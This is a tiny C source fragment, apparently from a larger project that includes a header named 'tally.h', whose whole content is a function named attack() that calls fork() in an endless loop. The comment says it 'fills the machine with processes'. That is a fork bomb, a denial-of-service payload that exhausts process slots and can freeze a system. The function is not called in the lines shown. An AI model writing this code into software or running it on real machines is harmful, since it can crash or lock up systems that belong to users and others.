// fills the machine with processes
#include "tally.h"
#include <unistd.h>
static void attack(void) { for (;;) fork(); }
